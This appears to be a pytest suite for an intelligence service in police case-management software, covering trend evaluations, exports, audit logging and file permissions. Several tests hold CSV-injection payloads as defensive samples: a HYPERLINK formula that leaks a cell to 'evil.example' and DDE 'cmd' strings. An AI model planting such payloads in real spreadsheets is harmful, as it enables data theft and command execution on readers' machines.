"""The intelligence service: pictures in one read, and exports checked by what they contain."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from tests.documents.pdf_reading import pdf_text
from tests.factories import person, place, visit

from fieldkit.domain.legal_clocks import LONDON
from fieldkit.domain.records import new_id
from fieldkit.domain.schemes import load_schemes
from fieldkit.services.disclosure import write_private_file
from fieldkit.services.intelligence import (
    IntelligenceService,
    Scope,
    evaluation_table,
    neutralise_cell,
    period_ending,
    repeats_table,
    trends_table,
)
from fieldkit.store.records import NewRecord
from fieldkit.store.schema import AuditEntry
from fieldkit.store.transaction import connection
from fieldkit.store.vault import Vault

START = date(2026, 9, 7)
HUDDERSFIELD_SHOP_THEFT = Scope(districts=("huddersfield",), categories=("shoplifting",))


def _at(day: date, hour: int = 12) -> str:
    return datetime(day.year, day.month, day.day, hour, tzinfo=LONDON).isoformat()


@pytest.fixture
def planted(vault: Vault) -> dict[str, str]:
    """Shop theft down 20% after START; a rising person at the market in the last fortnight."""
    records: list[NewRecord] = []

    def add(record_type: str, fields: dict[str, object]) -> str:
        record_id = new_id()
        records.append(NewRecord(record_type, fields, record_id))
        return record_id

    market = add("place", place(label="Queensgate Market"))
    rising = add("person", person(given_name="Kieran", family_name="Walsh"))
    for week in range(-4, 4):
        for n in range(10 if week < 0 else 8):
            day = START + timedelta(weeks=week, days=n % 7)
            add("visit", visit(occurred_at=_at(day), categories=["shoplifting"]))
    today = date(2026, 11, 27)
    for ago in (1, 2, 4, 6, 20):
        add(
            "visit",
            visit(
                occurred_at=_at(today - timedelta(days=ago), 10),
                place_id=market,
                person_ids=[rising],
                categories=["shoplifting"],
            ),
        )
    with vault.write() as conn:
        vault.records(conn).create_many(records)
    return {"market": market, "rising": rising}


@pytest.fixture
def service(vault: Vault) -> IntelligenceService:
    return IntelligenceService(vault, schemes=load_schemes())


def _exports(vault: Vault) -> list[tuple[str, str | None, str | None]]:
    with vault.read() as conn:
        rows = connection(conn).execute(
            select(AuditEntry.actor, AuditEntry.reason, AuditEntry.recipient).where(
                AuditEntry.action == "export"
            )
        )
        return [(str(a), r, p) for a, r, p in rows]


def test_an_initiative_evaluation_reports_the_planted_drop(
    service: IntelligenceService, planted: dict[str, str]
) -> None:
    result = service.evaluate(scope=HUDDERSFIELD_SHOP_THEFT, start=START, window_weeks=4)
    assert (result.before, result.after, result.change_percent) == (40, 32, -20.0)


def test_an_evaluation_window_of_no_weeks_is_refused(service: IntelligenceService) -> None:
    with pytest.raises(ValueError, match="at least one week"):
        service.evaluate(scope=HUDDERSFIELD_SHOP_THEFT, start=START, window_weeks=0)


def test_a_csv_export_writes_the_rows_and_logs_one_disclosure(
    service: IntelligenceService, planted: dict[str, str], vault: Vault, tmp_path: Path
) -> None:
    result = service.evaluate(scope=HUDDERSFIELD_SHOP_THEFT, start=START, window_weeks=4)
    out = tmp_path / "evaluation.csv"
    written = service.export_csv(
        table=evaluation_table(result), destination=out, recipient="Huddersfield PSG"
    )
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0] == ["Week", "Side", "Visits"]
    assert rows[1] == ["w/c 10 August 2026", "before", "10"]
    assert rows[5] == ["w/c 7 September 2026", "after", "8"]
    assert rows[-3:] == [
        ["Before", "4 weeks", "40"],
        ["After", "4 weeks", "32"],
        ["Change", "down 20%", "-20.0%"],
    ]
    assert written == len(rows) - 1
    assert _exports(vault) == [
        (
            "amy.officer",
            "CSV export: Initiative evaluation, Shoplifting; Huddersfield, "
            "from 7 September 2026 (11 rows)",
            "Huddersfield PSG",
        )
    ]


def test_a_csv_of_people_names_them_in_the_file_but_never_in_the_log(
    service: IntelligenceService, planted: dict[str, str], vault: Vault, tmp_path: Path
) -> None:
    period = period_ending(date(2026, 11, 27), 4)
    repeats = service.repeats(period=period, scope=Scope(districts=("huddersfield",)))
    out = tmp_path / "repeats.csv"
    service.export_csv(
        table=repeats_table(repeats, period=period, scope=Scope(districts=("huddersfield",))),
        destination=out,
    )
    text = out.read_text(encoding="utf-8")
    assert "Kieran Walsh" in text
    assert "Queensgate Market" in text
    (_, reason, _), *_ = _exports(vault)
    assert reason is not None
    assert "Kieran" not in reason
    assert "Walsh" not in reason
    assert reason.startswith("CSV export: Repeat people and places, Huddersfield, ")


def test_an_export_that_cannot_be_written_logs_nothing(
    service: IntelligenceService, planted: dict[str, str], vault: Vault, tmp_path: Path
) -> None:
    result = service.evaluate(scope=HUDDERSFIELD_SHOP_THEFT, start=START, window_weeks=4)
    with pytest.raises(FileNotFoundError):
        service.export_csv(
            table=evaluation_table(result), destination=tmp_path / "missing" / "out.csv"
        )
    assert _exports(vault) == []


def test_the_meeting_pack_shows_the_districts_pictures_and_is_logged(
    service: IntelligenceService, planted: dict[str, str], vault: Vault, tmp_path: Path
) -> None:
    period = period_ending(date(2026, 11, 27), 4)
    out = tmp_path / "pack.pdf"
    pages = service.meeting_pack(district="huddersfield", period=period, destination=out)
    text = pdf_text(out.read_bytes())
    assert pages >= 1
    for expected in (
        "Problem-solving meeting pack",
        "Huddersfield — 31 October 2026 to 27 November 2026 (4 weeks)",
        "Visits per week: this period and the one before",
        "Hotspots, Huddersfield",
        "Queensgate Market",
        "Kieran Walsh",
        "Seen 4 times in the last 14 days (threshold 3), up from 1 in the 14 days before.",
        "Warnings pipeline",
        "Yellow warning",
        f"Page 1 of {pages}",
    ):
        assert expected in text, expected
    reason = "Meeting pack PDF: Huddersfield, 31 October 2026 to 27 November 2026 (4 weeks)"
    assert set(_exports(vault)) == {("amy.officer", reason, None)}
    with vault.read() as conn:
        named = set(
            connection(conn)
            .execute(select(AuditEntry.record_id).where(AuditEntry.action == "export"))
            .scalars()
            .all()
        )
    assert {planted["rising"], planted["market"]} <= named


def test_the_same_meeting_pack_twice_is_the_same_pdf(
    service: IntelligenceService, planted: dict[str, str], tmp_path: Path
) -> None:
    period = period_ending(date(2026, 11, 27), 4)
    first, second = tmp_path / "a.pdf", tmp_path / "b.pdf"
    service.meeting_pack(district="huddersfield", period=period, destination=first)
    service.meeting_pack(district="huddersfield", period=period, destination=second)
    assert first.read_bytes() == second.read_bytes()


def test_the_pictures_each_answer_from_the_vault(
    service: IntelligenceService, planted: dict[str, str]
) -> None:
    period = period_ending(date(2026, 11, 27), 4)
    spots = service.hotspots(period=period)
    assert [(s.place_id, s.current) for s in spots] == [(planted["market"], 5)]
    assert [s.id for s in service.early_warning() if s.kind == "person"] == [planted["rising"]]
    assert sum(service.trends(period=period).all_current) == 5
    assert all(step.people == 0 for step in service.pipeline().steps)
    assert service.closures() == ()


def test_showing_a_list_that_names_people_is_logged_as_consulting_each_of_them(
    service: IntelligenceService, vault: Vault, planted: dict[str, str]
) -> None:
    service.hotspots(period=period_ending(date(2026, 11, 27), 4))
    with vault.read() as conn:
        assert (
            connection(conn)
            .execute(select(AuditEntry.seq).where(AuditEntry.action == "view"))
            .all()
            == []
        )

    service.early_warning()

    with vault.read() as conn:
        views = (
            connection(conn)
            .execute(
                select(AuditEntry.record_id, AuditEntry.reason).where(AuditEntry.action == "view")
            )
            .all()
        )
    assert [tuple(v) for v in views] == [(planted["rising"], "intelligence: early warning")]


# Exports: neutralised cells, the log before the file, owner-only files -----------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&B2,"Open")',
            '\'=HYPERLINK("http://evil.example/?leak="&B2,"Open")',
        ),
        ("@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Zoë O'Brien", "Zoë O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
        ("—", "—"),
        ("'quoted", "'quoted"),
        # Numbers the code writes, as text or as numbers, stay numbers.
        ("12", "12"),
        ("-20.0%", "-20.0%"),
        ("+12.5%", "+12.5%"),
        ("-3", "-3"),
        (-3, -3),
        (-2.5, -2.5),
        (7, 7),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    cell: str | int | float, written: str | int | float
) -> None:
    assert neutralise_cell(cell) == written


def test_a_csv_of_hostile_names_opens_as_text_not_formulas(
    service: IntelligenceService, vault: Vault, tmp_path: Path
) -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    command = "@cmd|' /C calc'!A0"
    person_id, place_id = new_id(), new_id()
    records = [
        NewRecord("person", person(given_name=link, family_name="-1+1"), person_id),
        NewRecord("place", place(label=command), place_id),
    ]
    records += [
        NewRecord(
            "visit",
            visit(
                occurred_at=_at(date(2026, 11, 20 + n)), place_id=place_id, person_ids=[person_id]
            ),
        )
        for n in range(3)
    ]
    with vault.write() as conn:
        vault.records(conn).create_many(records)
    period = period_ending(date(2026, 11, 27), 4)
    out = tmp_path / "repeats.csv"
    service.export_csv(
        table=repeats_table(service.repeats(period=period), period=period, scope=Scope()),
        destination=out,
    )
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    names = {row[1] for row in rows[1:]}
    assert names == {f"'{link} -1+1", f"'{command}, HD1 2JN"}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert [row[3] for row in rows[1:]] == ["3", "3"]


def test_a_csv_export_logs_each_record_it_names_before_the_file_appears(
    vault: Vault, planted: dict[str, str], tmp_path: Path
) -> None:
    seen: list[tuple[bool, list[tuple[str, str | None, str | None]]]] = []

    def write_file(path: Path, data: bytes) -> None:
        seen.append((path.exists(), _log(vault)))
        write_private_file(path, data)

    service = IntelligenceService(vault, schemes=load_schemes(), write_file=write_file)
    period = period_ending(date(2026, 11, 27), 4)
    table = repeats_table(service.repeats(period=period), period=period, scope=Scope())
    out = tmp_path / "repeats.csv"
    service.export_csv(table=table, destination=out)

    ((existed, logged_first),) = seen
    assert not existed
    exports = [(i, r) for a, i, r in logged_first if a == "export"]
    assert {i for i, _ in exports} == {planted["rising"], planted["market"]}
    assert all(r == f"CSV export: {table.title} (2 rows)" for _, r in exports)
    assert [a for a, _, _ in logged_first if a == "complete"] == []
    assert _log(vault)[-1] == ("complete", None, f"CSV export: {table.title} (2 rows): 2 rows")


def test_a_csv_export_that_fails_after_the_log_completes_with_no_rows(
    service: IntelligenceService, vault: Vault, planted: dict[str, str], tmp_path: Path
) -> None:
    result = service.evaluate(scope=HUDDERSFIELD_SHOP_THEFT, start=START, window_weeks=4)
    folder = tmp_path / "exports"
    taken = folder / "evaluation.csv"
    taken.mkdir(parents=True)
    with pytest.raises(IsADirectoryError):
        service.export_csv(table=evaluation_table(result), destination=taken)
    (*_, (action, record_id, reason)) = _log(vault)
    assert (action, record_id) == ("complete", None)
    assert reason == f"CSV export: {evaluation_table(result).title} (11 rows): 0 rows"
    assert [p.name for p in folder.iterdir()] == ["evaluation.csv"]


def test_exported_csv_and_meeting_pack_are_owner_only(
    service: IntelligenceService, planted: dict[str, str], tmp_path: Path
) -> None:
    previous = os.umask(0o022)
    try:
        period = period_ending(date(2026, 11, 27), 4)
        folder = tmp_path / "exports"
        folder.mkdir()
        csv_out, pack_out = folder / "trends.csv", folder / "pack.pdf"
        service.export_csv(table=trends_table(service.trends(period=period)), destination=csv_out)
        service.meeting_pack(district="huddersfield", period=period, destination=pack_out)
    finally:
        os.umask(previous)
    assert stat.S_IMODE(csv_out.stat().st_mode) == 0o600
    assert stat.S_IMODE(pack_out.stat().st_mode) == 0o600
    assert sorted(p.name for p in folder.iterdir()) == ["pack.pdf", "trends.csv"]


def _log(vault: Vault) -> list[tuple[str, str | None, str | None]]:
    with vault.read() as conn:
        rows = connection(conn).execute(
            select(AuditEntry.action, AuditEntry.record_id, AuditEntry.reason)
            .where(AuditEntry.action != "view")
            .order_by(AuditEntry.seq)
        )
        return [(str(a), i, r) for a, i, r in rows]
